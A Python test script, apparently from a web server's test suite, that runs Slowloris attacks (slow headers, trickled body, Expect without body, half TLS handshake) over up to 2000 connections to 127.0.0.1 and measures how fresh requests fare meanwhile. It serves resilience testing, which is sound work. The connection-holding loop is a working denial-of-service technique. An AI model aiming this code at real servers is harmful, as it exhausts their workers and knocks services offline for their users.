#!/usr/bin/env python3
"""Slowloris against a server on 127.0.0.1, and fresh requests measured meanwhile.

    tests/slowloris.py PORT [SLOW=2000] [FRESH=500] [PATH=/] [MODE=head] [FRESH_PATH=PATH]

Opens SLOW connections and keeps them slow; each attack holds an httpd worker per connection:
  head    a request line, then one more header line every 5 s: the head never ends;
  body    a whole head promising a 4 KiB body, then one byte of it every 5 s;
  expect  a whole head promising a 4 KiB body with Expect: 100-continue, and never the body;
  tls     half of a TLS ClientHello, and nothing more: a handshake stopped halfway (PORT speaks
          HTTPS, and the fresh requests are made over TLS, the certificate not checked).
Once they are all open, makes FRESH requests one after another, each on a new connection, and
prints one JSON line: latency percentiles of the fresh requests, how many failed, and what became
of the slow connections by the end: still held open, answered, or closed. Stops by itself; talks
to 127.0.0.1 only.
"""
import json, resource, socket, ssl, sys, time

port = int(sys.argv[1])
slow_n = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
fresh_n = int(sys.argv[3]) if len(sys.argv) > 3 else 500
path = sys.argv[4] if len(sys.argv) > 4 else "/"
mode = sys.argv[5] if len(sys.argv) > 5 else "head"
fresh_path = sys.argv[6] if len(sys.argv) > 6 else path
head = b"GET " + path.encode() + b" HTTP/1.1\r\nHost: localhost\r\n"
def half_client_hello():
    # what a TLS client sends first, cut in half: the server has read part of a handshake record
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = outgoing.read()
    return data[:len(data) // 2]

tls = None
if mode == "tls":
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE

opening, trickling = {
    "tls": (half_client_hello() if mode == "tls" else b"", b""),
    "head": (head, b"X-Slow: 1\r\n"),
    "body": (head + b"Content-Length: 4096\r\n\r\n0123456789", b"x"),
    "expect": (head + b"Content-Length: 4096\r\nExpect: 100-continue\r\n\r\n", b""),
}[mode]

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, slow_n + 1000)), hard))

slow, refused = [], 0
start = time.time()
for i in range(slow_n):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(opening)
        slow.append(s)
    except OSError:
        refused += 1
        s.close()
opened = time.time() - start

def trickle():
    # a little more on every slow connection: the head (or body) never ends
    if not trickling:
        return
    for s in slow:
        try:
            s.send(trickling)
        except OSError:
            pass

latencies, failed, last_trickle = [], 0, time.time()
request = ("GET " + fresh_path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n").encode()
for i in range(fresh_n):
    if time.time() - last_trickle > 5:
        trickle()
        last_trickle = time.time()
    t0 = time.perf_counter()
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=10)
        if tls:
            c = tls.wrap_socket(c, server_hostname="localhost")
        c.sendall(request)
        data = b""
        while True:
            try:
                chunk = c.recv(65536)
            except ssl.SSLEOFError:
                break  # the server's FIN without close_notify ends the answer as well
            if not chunk:
                break
            data += chunk
        c.close()
        if not data.startswith(b"HTTP/1.1 200"):
            failed += 1
            continue
        latencies.append((time.perf_counter() - t0) * 1000)
    except OSError:
        failed += 1

# What became of the slow connections: held (nothing to read), answered (a response, a 408
# among them, or 100 Continue), or closed (EOF, reset).
held = answered = closed = 0
for s in slow:
    s.setblocking(False)
    try:
        first = s.recv(1)
        if first == b"H":
            answered += 1
        else:
            closed += 1
    except BlockingIOError:
        held += 1
    except OSError:
        closed += 1
    s.close()

latencies.sort()
pct = lambda p: round(latencies[min(len(latencies) - 1, int(len(latencies) * p))], 2) if latencies else None
print(json.dumps({"mode": mode, "slow": slow_n, "slow_refused": refused, "slow_open_s": round(opened, 2), "slow_held_at_end": held,
                  "slow_answered": answered, "slow_closed": closed,
                  "fresh": fresh_n, "fresh_failed": failed, "p50_ms": pct(0.50), "p99_ms": pct(0.99), "max_ms": pct(1.0)}))
